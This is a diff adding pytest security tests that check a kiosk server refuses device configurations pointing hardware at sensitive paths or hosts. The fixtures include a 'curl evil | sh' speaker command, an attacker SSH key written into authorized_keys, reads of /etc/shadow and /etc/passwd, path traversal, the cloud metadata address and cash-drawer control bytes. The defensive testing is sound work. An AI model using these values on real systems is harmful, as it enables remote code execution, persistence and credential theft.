@@ -7,6 +7,7 @@ import json
 import logging
 from collections.abc import Iterator
 from contextlib import contextmanager
+from pathlib import Path
 from typing import Any
 
 import httpx
@@ -14,6 +15,10 @@ import pytest
 from fastapi import FastAPI
 from websockets.sync.client import ClientConnection, connect
 
+from drivers.fakes import TestNetworkPrinter
+from server.config import Settings
+from server.db import Database
+from server.models import Device
 from tests.support import BranchKit, admin_token, live_server, make_branch
 
 
@@ -211,3 +216,178 @@ def test_a_device_reports_the_status_of_the_hardware_it_has(site: Site) -> None:
     stored = site.device("agent")["status"]
     assert set(stored) == {"agent", "display:1", "keypad:1"}
     assert site.alerts() == []
+
+
+# --- 2. where a device configuration may point -----------------------------------------
+
+
+def store_config(db: Database, device_id: int, config: dict[str, Any]) -> None:
+    """A configuration as stored before this release's checks (straight into the row)."""
+    with db.unit_of_work() as session:
+        device = session.get(Device, device_id)
+        assert device is not None
+        device.config = config
+        session.add(device)
+
+
+@pytest.fixture
+def spool(settings: Settings) -> Path:
+    """The printer file directory, made as the administrator would."""
+    path = settings.data_dir / "printers"
+    path.mkdir(parents=True, exist_ok=True)
+    return path
+
+
+def file_printer(path: str, **more: Any) -> dict[str, Any]:
+    return {"printer": {"transport": "file", "path": path, **more}}
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        file_printer("~/.ssh/authorized_keys", footer="ssh-ed25519 AAAA attacker"),
+        {"printer": {"transport": "serial", "device": "/dev/ttyUSB0"}},
+        {"printer": {"transport": "usb", "vendor_id": "0x04b8", "product_id": "0x0202"}},
+        {"printer": {"transport": "network", "host": "10.0.0.40", "logo_path": "/etc/shadow"}},
+        {"keypads": [{"port": "/dev/ttyUSB0", "address": 1, "counter": "1"}]},
+        {"speaker": {"enabled": True, "command": ["sh", "-c", "curl evil | sh"]}},
+    ],
+)
+def test_a_manager_cannot_point_hardware_into_the_server(
+    site: Site, config: dict[str, Any], tmp_path: Path
+) -> None:
+    manager = site.kit.auth("manager")
+    r = site.patch("kiosk", {"config": config}, who=manager)
+    assert r.status_code == 403, r.text
+    assert "only an administrator" in r.json()["detail"]
+    assert site.device("kiosk")["config"] == {}
+    created = site.http.post(
+        "/api/v1/admin/devices",
+        json={"branch": site.kit.code, "kind": "kiosk", "name": "k2", "config": config},
+        headers=manager,
+    )
+    assert created.status_code == 403, created.text
+
+
+def test_a_manager_sets_up_a_network_printer_and_keeps_the_admins_one(site: Site) -> None:
+    manager = site.kit.auth("manager")
+    lan = {"printer": {"transport": "network", "host": "10.0.0.40", "footer": "Welcome"}}
+    r = site.patch("kiosk", {"config": lan, "name": "Entrance"}, who=manager)
+    assert r.status_code == 200, r.text
+    # The administrator's serial printer: the manager may change its footer, not its port.
+    serial = {"printer": {"transport": "serial", "device": "/dev/ttyUSB0", "footer": "Hi"}}
+    site.configure("kiosk", serial)
+    footer = {"printer": {**serial["printer"], "footer": "Hello"}}
+    assert site.patch("kiosk", {"config": footer}, who=manager).status_code == 200
+    moved = {"printer": {**serial["printer"], "device": "/dev/ttyUSB1"}}
+    assert site.patch("kiosk", {"config": moved}, who=manager).status_code == 403
+    assert site.patch("kiosk", {"name": "Entrance 2"}, who=manager).status_code == 200
+
+
+@pytest.mark.parametrize(
+    ("printer", "field"),
+    [
+        ({"transport": "network", "host": "8.8.8.8"}, "printer.host"),
+        ({"transport": "network", "host": "169.254.169.254", "port": 80}, "printer.host"),
+        ({"transport": "network", "host": "::ffff:8.8.4.4"}, "printer.host"),
+        ({"transport": "file", "path": "/etc/cron.d/sira"}, "printer.path"),
+        ({"transport": "file", "path": "../../escape"}, "printer.path"),
+        ({"transport": "file", "path": "~/.ssh/authorized_keys"}, "printer.path"),
+        ({"transport": "serial", "device": "/dev/sda"}, "printer.device"),
+        ({"transport": "serial", "device": "/dev/ttyUSB0/../sda"}, "printer.device"),
+        ({"transport": "serial", "device": "socket://203.0.113.9:9100"}, "printer.device"),
+        ({"transport": "dummy", "logo_path": "/etc/passwd"}, "printer.logo_path"),
+    ],
+)
+def test_hardware_outside_the_installations_limits_is_refused(
+    site: Site, printer: dict[str, Any], field: str
+) -> None:
+    r = site.patch("kiosk", {"config": {"printer": printer}})
+    assert r.status_code == 422, r.text
+    assert f"config.{field}:" in r.json()["detail"]
+    assert site.device("kiosk")["config"] == {}
+
+
+def test_a_symlink_out_of_the_printer_directory_is_refused(
+    site: Site, spool: Path, tmp_path: Path
+) -> None:
+    target = tmp_path / "outside.txt"
+    (spool / "link").symlink_to(target)
+    r = site.patch("kiosk", {"config": file_printer("link")})
+    assert r.status_code == 422, r.text
+    assert "must be inside" in r.json()["detail"]
+
+
+def test_a_file_printer_writes_inside_its_directory_with_the_footer_as_text(
+    site: Site, spool: Path
+) -> None:
+    # ESC p: kick the cash drawer; GS V: cut. Text in a footer must not be commands.
+    footer = "Thank you\x1bp\x00\x19\xfa\nGoodbye\x1dV\x00"
+    r = site.patch("kiosk", {"config": file_printer("kiosk.bin", footer=footer)})
+    assert r.status_code == 200, r.text
+    assert r.json()["config"]["printer"]["footer"] == "Thank youp\xfa\nGoodbyeV"
+    issued = site.issue()
+    assert issued["print_status"] == "printed"
+    written = (spool / "kiosk.bin").read_bytes()
+    assert issued["code"].encode() in written
+    assert b"Goodbye" in written
+    assert b"\x1bp\x00" not in written
+
+
+def test_a_stored_configuration_cannot_bypass_the_limits(
+    site: Site, db: Database, tmp_path: Path, spool: Path
+) -> None:
+    kiosk = site.device_id("kiosk")
+    outside = tmp_path / "authorized_keys"
+    store_config(db, kiosk, file_printer(str(outside), footer="ssh-ed25519 AAAA attacker"))
+    issued = site.issue()
+    assert issued["print_status"] == "failed"
+    assert not outside.exists()
+
+    # Stored footer control characters never reach the printer either.
+    store_config(db, kiosk, file_printer("k.bin", footer="a\x1bp\x00\x19b"))
+    assert site.issue()["print_status"] == "printed"
+    assert b"\x1bp" not in (spool / "k.bin").read_bytes()
+
+
+def test_an_agent_is_not_sent_hardware_outside_the_limits(site: Site, db: Database) -> None:
+    config = {
+        "printer": {"transport": "file", "path": "/etc/passwd"},
+        "print_via": "agent",
+        "keypads": [
+            {"port": "socket://203.0.113.9:80", "address": 1, "counter": "1"},
+            {"port": "/dev/ttyUSB0", "address": 2, "counter": "2"},
+        ],
+    }
+    store_config(db, site.device_id("agent"), config)
+    with connect(
+        site.url.replace("http", "ws") + "/api/v1/agent",
+        additional_headers={"Authorization": f"Bearer {site.kit.tokens['agent']}"},
+    ) as ws:
+        hello = json.loads(ws.recv(timeout=10))
+    sent = hello["device"]["config"]
+    assert "printer" not in sent
+    assert [k["counter"] for k in sent["keypads"]] == ["2"]
+    status = site.device("agent")["status"]
+    assert status["printer"]["state"] == "error"
+    assert "not allowed" in status["keypad:1"]["detail"]
+
+
+def test_a_network_printer_outside_the_allowed_networks_is_not_connected_to(
+    site: Site, db: Database, settings: Settings
+) -> None:
+    with TestNetworkPrinter() as printer:
+        config = {"printer": {"transport": "network", "host": printer.host, "port": printer.port}}
+        site.configure("kiosk", config)
+        assert site.issue()["print_status"] == "printed"
+        printer.wait_for_receipts(1)
+
+        settings.printer_hosts = ["10.0.0.0/8"]  # this host's printer is no longer allowed
+        store_config(
+            db, site.device_id("kiosk"), {"printer": {**config["printer"], "timeout_s": 2}}
+        )
+        assert site.issue()["print_status"] == "failed"
+        r = site.patch("kiosk", {"config": config})
+        assert r.status_code == 422
+        assert "outside the networks" in r.json()["detail"]
+        assert len(printer.receipts) == 1
